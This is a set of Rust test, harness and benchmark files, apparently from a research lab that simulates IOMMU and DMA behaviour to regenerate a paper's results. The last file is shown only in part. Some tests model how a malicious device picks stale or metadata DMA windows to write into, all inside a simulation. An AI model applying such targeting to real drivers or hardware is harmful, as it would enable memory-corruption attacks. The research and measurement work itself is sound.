        assert_eq!(m.by_site("cmdq").unwrap().kind, ChannelKind::CtrlBlock);
    }

    #[test]
    fn cpu_write_window_outside_dev_window_becomes_meta() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(
            0,
            0x4000,
            0x8000,
            2048,
            DmaDirection::FromDevice,
            "rx",
        ));
        inf.observe(&dev_write(5, 0x4000 + 64, 1200, false));
        inf.observe(&Event::CpuAccess {
            at: 6,
            kva: Kva(0x8000 + 1728),
            len: 320,
            write: true,
            site: "init_meta",
        });
        // Overlapping CPU writes (e.g. header fixups) are not metadata.
        inf.observe(&Event::CpuAccess {
            at: 7,
            kva: Kva(0x8000 + 64),
            len: 8,
            write: true,
            site: "hdr_fixup",
        });
        let m = inf.channel_map();
        let c = m.by_site("rx").unwrap();
        assert_eq!(
            c.meta,
            vec![MetaBlock {
                site: "init_meta",
                lo: 1728,
                hi: 2048
            }]
        );
    }

    #[test]
    fn stale_windows_are_tracked_until_invalidated() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(
            0,
            0x5000,
            0x9000,
            1024,
            DmaDirection::FromDevice,
            "rx",
        ));
        inf.observe(&dev_write(1, 0x5000, 64, false));
        inf.observe(&unmap(10, 0x5000, 1024));
        inf.observe(&dev_write(11, 0x5000, 8, true));
        assert_eq!(inf.channel_map().by_site("rx").unwrap().stale_writes, 1);
        let targets = inf.writable_targets();
        assert_eq!(targets.len(), 1);
        assert!(targets[0].stale);
        inf.observe(&Event::IotlbGlobalFlush { at: 20, dropped: 1 });
        assert!(inf.writable_targets().is_empty());
    }

    #[test]
    fn write_plan_prefers_meta_windows() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(
            0,
            0x4000,
            0x8000,
            2048,
            DmaDirection::FromDevice,
            "rx",
        ));
        inf.observe(&dev_write(5, 0x4000 + 64, 1200, false));
        inf.observe(&Event::CpuAccess {
            at: 6,
            kva: Kva(0x8000 + 1728),
            len: 320,
            write: true,
            site: "init_meta",
        });
        let plan = inf.write_plan();
        assert_eq!(plan.len(), 1);
        let t = plan[0].targets[0];
        assert!(t.meta);
        assert_eq!((t.lo, t.hi), (1728, 2048));
    }

    #[test]
    fn two_runs_are_byte_identical() {
        let build = || {
            let mut inf = ChannelInference::new();
            for i in 0..16u64 {
                inf.observe(&map(
                    i,
                    0x10_0000 + i * 0x1000,
                    0x20_0000 + i * 0x1000,
                    1024,
                    DmaDirection::FromDevice,
                    "rx_map",
                ));
            }
            inf.observe(&dev_write(40, 0x10_0000, 32, false));
            inf.channel_map().to_json()
        };
        assert_eq!(build(), build());
    }
}
