//! The benchmark crate has no library surface: all content lives in
//! `benches/` (one Criterion harness per table/figure of the paper —
//! see the workspace README for the index).
