//! The shared benchmark harness: workload builders used by several
//! `benches/` targets, plus the `BENCH_observability.json` emitter.
//!
//! Each bench run produces two kinds of numbers, and the export keeps
//! them apart:
//!
//! - **deterministic** — simulated-cycle metrics snapshots taken from
//!   seeded runs. Same binary, same seed, byte-identical section.
//! - **timing** — wall-clock [`BenchResult`]s from the criterion shim.
//!   These vary run to run and machine to machine by nature.
//!
//! Because `cargo bench` runs every `[[bench]]` target as its own
//! process, each harness writes one *section* file under
//! `target/bench-sections/` and then reassembles the combined
//! `BENCH_observability.json` at the repo root from whatever sections
//! exist. Running a single bench refreshes its section and the roll-up;
//! running them all yields the complete report.

use criterion::{BenchResult, Throughput};
use dma_core::jsonw::JsonWriter;
use dma_core::vuln::DmaDirection;
use dma_core::{Event, Iova, Kva, SimCtx};
use sim_iommu::{dma_map_single, dma_unmap_single, InvalidationMode, Iommu, IommuConfig};
use sim_mem::{MemConfig, MemorySystem};
use std::path::PathBuf;

/// Repo root (the bench crate lives at `crates/bench`).
pub fn repo_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn sections_dir() -> PathBuf {
    repo_root().join("target/bench-sections")
}

/// Path of the combined report the harness assembles.
pub fn report_path() -> PathBuf {
    repo_root().join("BENCH_observability.json")
}

/// Path of the standalone fuzzing report `fuzz_bench` writes.
pub fn fuzz_report_path() -> PathBuf {
    repo_root().join("BENCH_fuzz.json")
}

/// Path of the standalone forensics report `forensics_bench` writes.
pub fn forensics_report_path() -> PathBuf {
    repo_root().join("BENCH_forensics.json")
}

/// Path of the standalone crash-safety report `resilience_bench` writes.
pub fn resilience_report_path() -> PathBuf {
    repo_root().join("BENCH_resilience.json")
}

/// Path of the standalone telemetry-service report `serve_bench` writes.
pub fn serve_report_path() -> PathBuf {
    repo_root().join("BENCH_serve.json")
}

/// Path of the standalone sharded-throughput report `scale_bench`
/// writes.
pub fn scale_report_path() -> PathBuf {
    repo_root().join("BENCH_scale.json")
}

/// Path of the standalone device-zoo report `zoo_bench` writes.
pub fn zoo_report_path() -> PathBuf {
    repo_root().join("BENCH_zoo.json")
}

/// Path of the standalone cycle-attribution report `profile_bench`
/// writes.
pub fn profile_report_path() -> PathBuf {
    repo_root().join("BENCH_profile.json")
}

/// Writes `BENCH_profile.json`: the deterministic half is
/// `ProfileRun::deterministic_json` — run facts, the hottest self-cycle
/// frame, and the per-exec phase breakdown `dma-lab bench --check`
/// re-derives — plus the two-run folded-output byte-identity verdict;
/// the timing half holds wall-clock rows for the profiled workload at 1
/// and 8 shards and the export paths, from which `execs_per_sec` and
/// `speedup_8_shards_x` are derived. Returns the report path.
pub fn emit_profile_report(
    deterministic_json: &str,
    folded_identical: bool,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "profile");
        w.field("deterministic", |w| w.raw(deterministic_json));
        w.field_bool("two_run_folded_byte_identical", folded_identical);
        w.field("timing", |w| render_results(w, timing));
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let Some(n) = ns("profile_shards_1") {
            w.field_f64("execs_per_sec", 1e9 / n as f64);
        }
        if let (Some(one), Some(eight)) = (ns("profile_shards_1"), ns("profile_shards_8")) {
            w.field_f64("speedup_8_shards_x", one as f64 / eight as f64);
        }
    });
    let path = profile_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_zoo.json`: the deterministic half carries per-device
/// channel-map facts (channel count, kinds, events consumed) and the
/// two-run byte-identity verdict; the timing half holds inference cost
/// normalised to 10⁴ trace events and warm per-device exec rows, from
/// which `execs_per_sec_<device>` figures are derived. Returns the
/// report path.
pub fn emit_zoo_report(
    deterministic_json: &str,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "zoo");
        w.field("deterministic", |w| w.raw(deterministic_json));
        w.field("timing", |w| render_results(w, timing));
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        for dev in ["nic", "virtio", "nvme"] {
            if let Some(n) = ns(&format!("infer_10k_events_{dev}")) {
                w.field_u64(&format!("infer_ns_per_10k_events_{dev}"), n);
            }
            if let Some(n) = ns(&format!("exec_warm_{dev}")) {
                w.field_f64(&format!("execs_per_sec_{dev}"), 1e9 / n as f64);
            }
        }
    });
    let path = zoo_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_scale.json`: the deterministic half carries the
/// thread-identity verdict and per-shard-count campaign facts, `scale`
/// carries the derived execs/sec and sim-cycles/sec rows at 1/2/4/8
/// shards plus merge cost, and the timing half holds the raw shim rows.
/// The headline `speedup_8_shards_vs_cold_x` compares the 8-shard warm
/// engine against the cold boot-per-exec path the engine used before
/// template caching. Returns the report path.
pub fn emit_scale_report(
    deterministic_json: &str,
    scale_json: &str,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "scale");
        w.field("deterministic", |w| w.raw(deterministic_json));
        w.field("scale", |w| w.raw(scale_json));
        w.field("timing", |w| render_results(w, timing));
        // Warm sharded engine vs the cold boot-per-exec baseline: the
        // number the "scaling a campaign is worth it" claim rests on.
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let (Some(cold), Some(warm)) = (ns("exec_cold"), ns("shards_8")) {
            w.field_f64("speedup_8_shards_vs_cold_x", cold as f64 / warm as f64);
        }
    });
    let path = scale_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_serve.json`: the deterministic half carries the
/// scripted-session transcript verdict (two seeded runs, byte-identity)
/// and the snapshot-vs-delta frame sizes from which `delta_ratio` is
/// derived; the timing half covers per-frame service cost, from which
/// `frames_per_sec` figures are derived. Returns the report path.
pub fn emit_serve_report(
    deterministic_json: &str,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "serve");
        w.field("deterministic", |w| w.raw(deterministic_json));
        w.field("timing", |w| render_results(w, timing));
        // Wall-clock frames/sec for the two stats modes: the numbers
        // the "poll deltas, not full dumps" claim rests on.
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let Some(full) = ns("stats_full_frame") {
            w.field_f64("full_frames_per_sec", 1e9 / full as f64);
        }
        if let Some(delta) = ns("stats_delta_frame") {
            w.field_f64("delta_frames_per_sec", 1e9 / delta as f64);
        }
    });
    let path = serve_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_resilience.json`: the deterministic half is the
/// kill-and-resume experiment (byte-identity verdict, resume point,
/// recovered generations) plus checkpoint payload sizes at two corpus
/// scales; the timing half covers checkpoint save/load cost and the
/// per-exec overhead of the `catch_unwind` + watchdog guard, from
/// which `guard_overhead_x` is derived. Returns the report path.
pub fn emit_resilience_report(
    deterministic_json: &str,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "resilience");
        w.field("deterministic", |w| w.raw(deterministic_json));
        w.field("timing", |w| render_results(w, timing));
        // Guarded (catch_unwind + watchdog) exec cost relative to the
        // plain executor: the number the "isolation is cheap enough to
        // leave on" claim rests on.
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let (Some(guarded), Some(plain)) = (ns("exec_guarded"), ns("exec_plain")) {
            w.field_f64("guard_overhead_x", guarded as f64 / plain as f64);
        }
    });
    let path = resilience_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_forensics.json`: the pinned forensics campaign
/// (byte-identical per seed) plus the recorder-vs-unbounded-trace
/// timing rows, from which the bounded-recorder overhead factor is
/// derived. Returns the report path.
pub fn emit_forensics_report(
    report: &fuzz::ForensicsReport,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "forensics");
        w.field("deterministic", |w| {
            w.obj(|w| {
                w.field_u64("seed", report.seed);
                w.field_u64("iters", report.iters);
                w.field_u64("forensic_execs", report.forensic_execs);
                w.field_u64("incident_classes", report.cases.len() as u64);
                w.field_u64("callback_exposures", report.callbacks.len() as u64);
                w.field_u64("trace_dropped", report.trace_dropped);
                w.field("campaign", |w| w.raw(&report.to_json()));
            });
        });
        w.field("timing", |w| render_results(w, timing));
        // Bounded-recorder emit cost relative to the unbounded trace:
        // the number the recorder's "ring buffer is cheap enough to
        // leave on" claim rests on.
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let (Some(rec), Some(unb)) = (ns("emit_recorded_1024"), ns("emit_unbounded")) {
            w.field_f64("recorder_overhead_x", rec as f64 / unb as f64);
        }
    });
    let path = forensics_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

/// Writes `BENCH_fuzz.json`: the campaign's deterministic
/// coverage-over-time series and metrics snapshot (byte-identical for
/// one seed) alongside the shim's wall-clock timings, from which an
/// execs/sec figure is derived. Returns the report path.
pub fn emit_fuzz_report(
    report: &fuzz::FuzzReport,
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "fuzz");
        w.field("deterministic", |w| {
            w.obj(|w| {
                w.field_u64("seed", report.seed);
                w.field_u64("iters", report.iters);
                w.field_u64("execs", report.execs);
                w.field_u64("coverage_bits", report.coverage_bits as u64);
                w.field_u64("corpus_entries", report.corpus.len() as u64);
                w.field_u64("finding_classes", report.findings.len() as u64);
                w.field("series", |w| w.raw(&report.series_json()));
                w.field("stats", |w| w.raw(&report.stats_json));
            });
        });
        w.field("timing", |w| render_results(w, timing));
        // Wall-clock execs/sec from the per-exec timing rows, when the
        // shim produced them; `warm_exec_speedup_x` pins the gain from
        // reusing boot templates and scratch buffers across execs.
        let ns = |id: &str| {
            timing
                .iter()
                .find(|r| r.id == id)
                .map(|r| r.ns_per_iter)
                .filter(|&n| n > 0)
        };
        if let Some(cold) = ns("execute_one_input") {
            w.field_f64("execs_per_sec", 1e9 / cold as f64);
        }
        if let Some(warm) = ns("execute_one_input_warm") {
            w.field_f64("warm_execs_per_sec", 1e9 / warm as f64);
        }
        if let (Some(cold), Some(warm)) = (ns("execute_one_input"), ns("execute_one_input_warm")) {
            w.field_f64("warm_exec_speedup_x", cold as f64 / warm as f64);
        }
    });
    let path = fuzz_report_path();
    std::fs::write(&path, w.finish())?;
    Ok(path)
}

// ---------------------------------------------------------------------
// Shared workload builders.
// ---------------------------------------------------------------------

/// A synthetic alloc/map/access/free event stream for D-KASAN replay
/// benchmarks: `n` events cycling through the four event classes over a
/// sliding window of kmalloc-512 objects.
pub fn synth_events(n: usize) -> Vec<Event> {
    let page = 0xffff_8880_0100_0000u64;
    (0..n)
        .map(|i| {
            let k = page + ((i as u64 * 640) & 0xf_ffff);
            match i % 4 {
                0 => Event::Alloc {
                    at: i as u64,
                    kva: Kva(k),
                    size: 512,
                    site: "site_a",
                    cache: "kmalloc-512",
                },
                1 => Event::DmaMap {
                    at: i as u64,
                    device: 1,
                    iova: Iova(0xf000_0000 + (k & 0xffff)),
                    kva: Kva(k),
                    len: 512,
                    dir: DmaDirection::FromDevice,
                    site: "map_site",
                },
                2 => Event::CpuAccess {
                    at: i as u64,
                    kva: Kva(k),
                    len: 8,
                    write: true,
                    site: "cpu_site",
                },
                _ => Event::Free {
                    at: i as u64,
                    kva: Kva(k.wrapping_sub(1280)),
                },
            }
        })
        .collect()
}

/// A fresh single-device machine (memory + IOMMU) for map/unmap and
/// translation benchmarks.
pub fn iommu_setup(mode: InvalidationMode) -> (SimCtx, MemorySystem, Iommu) {
    let ctx = SimCtx::new();
    let mem = MemorySystem::new(&MemConfig::default());
    let mut iommu = Iommu::new(IommuConfig {
        mode,
        ..Default::default()
    });
    iommu.attach_device(1);
    (ctx, mem, iommu)
}

/// One full I/O: kmalloc, map, device DMA write, unmap, kfree.
pub fn one_io(ctx: &mut SimCtx, mem: &mut MemorySystem, iommu: &mut Iommu) {
    let buf = mem.kmalloc(ctx, 2048, "io").unwrap();
    let m = dma_map_single(
        ctx,
        iommu,
        &mem.layout,
        1,
        buf,
        2048,
        DmaDirection::FromDevice,
        "m",
    )
    .unwrap();
    iommu
        .dev_write(ctx, &mut mem.phys, 1, m.iova, b"payload")
        .unwrap();
    dma_unmap_single(ctx, iommu, &m).unwrap();
    mem.kfree(ctx, buf).unwrap();
}

/// Runs `ios` full I/O cycles under `mode`, lets any pending deferred
/// flush fire, and returns the deterministic metrics snapshot as JSON —
/// IOTLB hit/miss/stale counters, flush counts, map/unmap latency
/// histograms, and (in deferred mode) the §5.2.1 stale-window
/// distribution.
pub fn iotlb_series_json(mode: InvalidationMode, ios: usize) -> String {
    let (mut ctx, mut mem, mut iommu) = iommu_setup(mode);
    for _ in 0..ios {
        one_io(&mut ctx, &mut mem, &mut iommu);
    }
    ctx.clock.advance_ms(11);
    iommu.tick(&mut ctx);
    ctx.metrics_snapshot().to_json()
}

// ---------------------------------------------------------------------
// BENCH_observability.json emitter.
// ---------------------------------------------------------------------

fn render_results(w: &mut JsonWriter, results: &[BenchResult]) {
    w.arr(|w| {
        for r in results {
            w.elem(|w| {
                w.obj(|w| {
                    w.field_str("group", &r.group);
                    w.field_str("id", &r.id);
                    w.field_u64("iters", r.iters);
                    w.field_u64("ns_per_iter", r.ns_per_iter);
                    match r.throughput {
                        Some(Throughput::Elements(n)) => w.field_u64("elements_per_iter", n),
                        Some(Throughput::Bytes(n)) => w.field_u64("bytes_per_iter", n),
                        None => {}
                    }
                });
            });
        }
    });
}

/// Writes one bench harness's section file. `deterministic` maps a
/// label to an already-rendered JSON document (normally a
/// `Snapshot::to_json()` string); `timing` holds the shim's wall-clock
/// results. Returns the section path.
pub fn emit_section(
    name: &str,
    deterministic: &[(&str, String)],
    timing: &[BenchResult],
) -> std::io::Result<PathBuf> {
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("section", name);
        w.field("deterministic", |w| {
            w.obj(|w| {
                for (label, json) in deterministic {
                    w.field(label, |w| w.raw(json));
                }
            });
        });
        w.field("timing", |w| render_results(w, timing));
    });
    let dir = sections_dir();
    std::fs::create_dir_all(&dir)?;
    let path = dir.join(format!("{name}.json"));
    std::fs::write(&path, w.finish())?;
    assemble()?;
    Ok(path)
}

/// Reassembles `BENCH_observability.json` from every section file
/// currently present, in sorted (deterministic) section order.
///
/// Fails (and the harness exits non-zero) when `target/bench-sections/`
/// yields no sections at all: an empty roll-up used to be written
/// silently, and an empty `BENCH_observability.json` once made it into
/// the tree that way.
pub fn assemble() -> std::io::Result<PathBuf> {
    assemble_from(&sections_dir(), &report_path())
}

/// [`assemble`] against explicit directories, for the harness and its
/// tests.
pub fn assemble_from(
    sections: &std::path::Path,
    report: &std::path::Path,
) -> std::io::Result<PathBuf> {
    let mut found = Vec::new();
    if let Ok(entries) = std::fs::read_dir(sections) {
        for e in entries.flatten() {
            if e.path().extension().is_some_and(|x| x == "json") {
                found.push((
                    e.path()
                        .file_stem()
                        .unwrap_or_default()
                        .to_string_lossy()
                        .into_owned(),
                    std::fs::read_to_string(e.path())?,
                ));
            }
        }
    }
    if found.is_empty() {
        return Err(std::io::Error::new(
            std::io::ErrorKind::NotFound,
            format!(
                "no bench sections under {} — run `cargo bench` so at least \
                 one harness emits its section before assembling",
                sections.display()
            ),
        ));
    }
    found.sort_by(|a, b| a.0.cmp(&b.0));
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_str("report", "observability");
        w.field("sections", |w| {
            w.obj(|w| {
                for (name, body) in &found {
                    w.field(name, |w| w.raw(body));
                }
            });
        });
    });
    std::fs::write(report, w.finish())?;
    Ok(report.to_path_buf())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn synth_events_cycle_all_four_classes() {
        let evs = synth_events(8);
        assert_eq!(evs.len(), 8);
        assert!(matches!(evs[0], Event::Alloc { .. }));
        assert!(matches!(evs[1], Event::DmaMap { .. }));
        assert!(matches!(evs[2], Event::CpuAccess { .. }));
        assert!(matches!(evs[3], Event::Free { .. }));
    }

    #[test]
    fn iotlb_series_is_deterministic_and_mode_sensitive() {
        let a = iotlb_series_json(InvalidationMode::Deferred, 50);
        let b = iotlb_series_json(InvalidationMode::Deferred, 50);
        assert_eq!(a, b, "same mode and count must render byte-identically");
        assert!(a.contains("sim_iommu.stale_window.cycles"), "{a}");
        let strict = iotlb_series_json(InvalidationMode::Strict, 50);
        assert!(strict.contains("sim_iommu.iotlb.invalidate"), "{strict}");
        assert!(!strict.contains("sim_iommu.stale_window.cycles"));
    }

    #[test]
    fn emit_and_assemble_produce_valid_report() {
        let results = vec![BenchResult {
            group: "g".into(),
            id: "b".into(),
            iters: 3,
            ns_per_iter: 100,
            throughput: Some(Throughput::Elements(7)),
        }];
        let det = vec![("series", r#"{"x":1}"#.to_string())];
        let path = emit_section("unit_test_section", &det, &results).unwrap();
        let body = std::fs::read_to_string(&path).unwrap();
        assert!(body.contains("\"section\":\"unit_test_section\""));
        assert!(body.contains("\"elements_per_iter\":7"));
        let report = std::fs::read_to_string(report_path()).unwrap();
        assert!(report.contains("\"unit_test_section\""));
        assert!(report.contains("\"report\":\"observability\""));
        // Clean the marker section up so repeated test runs stay
        // stable. With the marker gone the directory may be empty, in
        // which case assemble now (correctly) refuses to roll up.
        std::fs::remove_file(path).unwrap();
        match assemble() {
            Ok(_) => {}
            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::NotFound, "{e}"),
        }
    }

    #[test]
    fn assemble_refuses_an_empty_sections_directory() {
        let dir = std::env::temp_dir().join(format!(
            "dma-lab-bench-empty-sections-{}",
            std::process::id()
        ));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let report = dir.join("report.json");

        let err = assemble_from(&dir, &report).unwrap_err();
        assert_eq!(err.kind(), std::io::ErrorKind::NotFound);
        assert!(err.to_string().contains("no bench sections"), "{err}");
        assert!(!report.exists(), "refusal must not write a report");

        // One section in place and the same call succeeds.
        std::fs::write(dir.join("s.json"), r#"{"section":"s"}"#).unwrap();
        assemble_from(&dir, &report).unwrap();
        let body = std::fs::read_to_string(&report).unwrap();
        assert!(body.contains("\"report\":\"observability\""));
        assert!(body.contains("\"s\":{\"section\":\"s\"}"), "{body}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
