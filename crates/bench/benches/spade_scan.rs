//! Table 2 regeneration cost: SPADE over the Linux-5.0-shaped corpus
//! (~1000 dma-map calls, ~480 files), split into its three stages —
//! parse+xref (Cscope), layout (pahole), and the analysis pass.
//!
//! The Table-2 rows themselves are printed once at startup.

use criterion::{criterion_group, criterion_main, Criterion};
use spade::analysis::analyze;
use spade::corpus::{full_corpus, CorpusMix};
use spade::report::Table2;
use spade::xref::SourceTree;

fn print_table2() {
    let corpus = full_corpus(&CorpusMix::default(), 1);
    let tree = SourceTree::load(corpus.iter().map(|(p, s)| (p.as_str(), s.as_str())));
    let findings = analyze(&tree);
    let t = Table2::from_findings(&findings);
    eprintln!("== Table 2 (regenerated) ==\n{}", t.render());
    let v = Table2::vulnerable_calls(&findings);
    eprintln!(
        "vulnerable: {v} / {} ({:.1}%)  [paper: 742 / 1019 (72.8%)]",
        t.total.calls,
        100.0 * v as f64 / t.total.calls as f64
    );
}

fn bench_spade(c: &mut Criterion) {
    print_table2();
    let corpus = full_corpus(&CorpusMix::default(), 1);
    let mut g = c.benchmark_group("table2_spade");
    g.sample_size(10);

    g.bench_function("parse_and_xref", |b| {
        b.iter(|| {
            let tree = SourceTree::load(corpus.iter().map(|(p, s)| (p.as_str(), s.as_str())));
            std::hint::black_box(tree.file_count())
        })
    });

    let tree = SourceTree::load(corpus.iter().map(|(p, s)| (p.as_str(), s.as_str())));
    g.bench_function("analysis_pass", |b| {
        b.iter(|| std::hint::black_box(analyze(&tree).len()))
    });

    g.bench_function("callback_census_pahole", |b| {
        b.iter(|| {
            std::hint::black_box((
                tree.types.direct_callbacks("nvme_fc_fcp_op"),
                tree.types.spoofable_callbacks("nvme_fc_fcp_op", 6),
            ))
        })
    });

    g.bench_function("end_to_end_scan", |b| {
        b.iter(|| {
            let tree = SourceTree::load(corpus.iter().map(|(p, s)| (p.as_str(), s.as_str())));
            let findings = analyze(&tree);
            std::hint::black_box(Table2::from_findings(&findings))
        })
    });
    g.finish();
}

criterion_group!(benches, bench_spade);
criterion_main!(benches);
