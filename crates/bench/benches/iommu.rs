//! Figure 6: strict vs deferred IOTLB invalidation.
//!
//! Measures (a) host wall-time of the map→DMA→unmap cycle under both
//! policies and (b) the *simulated-cycle* accounting the paper reasons
//! about (2000-cycle invalidations, 10 ms windows). The simulated
//! numbers are printed once at startup as the Figure-6 "series".

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use dma_core::vuln::DmaDirection;
use dma_core::SimCtx;
use sim_iommu::{dma_map_single, dma_unmap_single, InvalidationMode, Iommu, IommuConfig};
use sim_mem::{MemConfig, MemorySystem};

fn setup(mode: InvalidationMode) -> (SimCtx, MemorySystem, Iommu) {
    let ctx = SimCtx::new();
    let mem = MemorySystem::new(&MemConfig::default());
    let mut iommu = Iommu::new(IommuConfig {
        mode,
        ..Default::default()
    });
    iommu.attach_device(1);
    (ctx, mem, iommu)
}

fn one_io(ctx: &mut SimCtx, mem: &mut MemorySystem, iommu: &mut Iommu) {
    let buf = mem.kmalloc(ctx, 2048, "io").unwrap();
    let m = dma_map_single(
        ctx,
        iommu,
        &mem.layout,
        1,
        buf,
        2048,
        DmaDirection::FromDevice,
        "m",
    )
    .unwrap();
    iommu
        .dev_write(ctx, &mut mem.phys, 1, m.iova, b"payload")
        .unwrap();
    dma_unmap_single(ctx, iommu, &m).unwrap();
    mem.kfree(ctx, buf).unwrap();
}

fn print_figure6_series() {
    eprintln!("== Figure 6 (simulated cycles): strict vs deferred ==");
    for mode in [InvalidationMode::Strict, InvalidationMode::Deferred] {
        let (mut ctx, mut mem, mut iommu) = setup(mode);
        for _ in 0..1000 {
            one_io(&mut ctx, &mut mem, &mut iommu);
        }
        // Let any pending flush run.
        ctx.clock.advance_ms(11);
        iommu.tick(&mut ctx);
        eprintln!(
            "  {:?}: invalidation cycles total {:>8} | per-unmap invalidations {} | global flushes {} | stale hits {}",
            mode,
            iommu.stats.invalidation_cycles,
            iommu.stats.invalidations,
            iommu.stats.global_flushes,
            iommu.stats.stale_hits,
        );
    }
}

fn bench_io_cycle(c: &mut Criterion) {
    print_figure6_series();
    let mut g = c.benchmark_group("figure6_io_cycle");
    g.sample_size(20);
    for (name, mode) in [
        ("strict", InvalidationMode::Strict),
        ("deferred", InvalidationMode::Deferred),
    ] {
        g.bench_function(format!("map_dma_unmap_{name}"), |b| {
            b.iter_batched(
                || setup(mode),
                |(mut ctx, mut mem, mut iommu)| {
                    for _ in 0..64 {
                        one_io(&mut ctx, &mut mem, &mut iommu);
                    }
                },
                BatchSize::SmallInput,
            )
        });
    }
    g.finish();
}

fn bench_translation(c: &mut Criterion) {
    let mut g = c.benchmark_group("iommu_translation");
    g.sample_size(20);
    // IOTLB hit vs page-table walk.
    g.bench_function("dev_write_iotlb_hot", |b| {
        let (mut ctx, mut mem, mut iommu) = setup(InvalidationMode::Strict);
        let buf = mem.kmalloc(&mut ctx, 2048, "io").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            buf,
            2048,
            DmaDirection::FromDevice,
            "m",
        )
        .unwrap();
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"warm")
            .unwrap();
        b.iter(|| {
            iommu
                .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"payload")
                .unwrap()
        })
    });
    g.bench_function("map_unmap_page_table_churn", |b| {
        let (mut ctx, mut mem, mut iommu) = setup(InvalidationMode::Strict);
        let buf = mem.kmalloc(&mut ctx, 2048, "io").unwrap();
        b.iter(|| {
            let m = dma_map_single(
                &mut ctx,
                &mut iommu,
                &mem.layout,
                1,
                buf,
                2048,
                DmaDirection::FromDevice,
                "m",
            )
            .unwrap();
            dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        })
    });
    g.finish();
}

criterion_group!(benches, bench_io_cycle, bench_translation);
criterion_main!(benches);
