//! Device-zoo benchmarks: what channel inference costs and what each
//! zoo member's warm executor sustains, exported to `BENCH_zoo.json`
//! (its own report, like `BENCH_fuzz.json`).
//!
//! Two timing families per device family (NIC config 0, virtio config
//! 5, NVMe config 7):
//!
//! - `infer_10k_events_<dev>` — feeding 10⁴ real trace events from that
//!   machine's canonical inference workload through a fresh
//!   [`ChannelInference`] (the stream is cycled to reach 10⁴, so the
//!   per-event mix matches what `dma-lab infer` actually consumes).
//! - `exec_warm_<dev>` — one fuzz exec on the warm template executor,
//!   inputs pinned to the device's config (the per-device execs/sec the
//!   campaign planner reads).
//!
//! The deterministic half records each device's inferred channel count,
//! kinds, and events consumed, plus the two-run byte-identity verdict
//! CI cross-checks against `dma-lab infer`.

use criterion::{BenchResult, Throughput};
use dma_core::jsonw::JsonWriter;
use dma_core::Event;
use fuzz::{
    config_device, config_name, infer_channels, machine_config, ChannelInference, ExecContext,
    FuzzInput,
};
use std::time::Instant;

/// The pinned campaign seed every surface shares (CI smoke, README).
const SEED: u64 = 7;
/// One representative config per device family.
const FAMILY_CONFIGS: [u8; 3] = [0, 5, 7];
/// Trace events per inference timing row.
const INFER_EVENTS: usize = 10_000;
/// Warm execs averaged per device family.
const WARM_EXECS: u64 = 24;

/// Replays the canonical inference workload and returns its raw event
/// stream — the same bytes `fuzz::infer_channels` consumes.
fn capture_events(config: u8) -> Vec<Event> {
    let mut model = dma_lab::devsim::boot_model(
        machine_config(config, SEED),
        dma_lab::devsim::BootSpec::TracedBoot,
    )
    .expect("boot");
    for i in 0..24u64 {
        model
            .deliver(48 + (i as usize % 7) * 96, i as u8)
            .expect("deliver");
    }
    model.tick_ms(2);
    model.complete_io().expect("complete");
    model.tick_ms(11);
    model.teardown().expect("teardown");
    model.sim().trace.drain()
}

fn main() {
    let mut timing = Vec::new();
    let mut det_rows = Vec::new();

    for &config in &FAMILY_CONFIGS {
        let dev = config_device(config).name();

        // Inference cost, normalised to 10⁴ events of this machine's
        // real trace mix.
        let captured = capture_events(config);
        let stream: Vec<Event> = captured
            .iter()
            .cycle()
            .take(INFER_EVENTS)
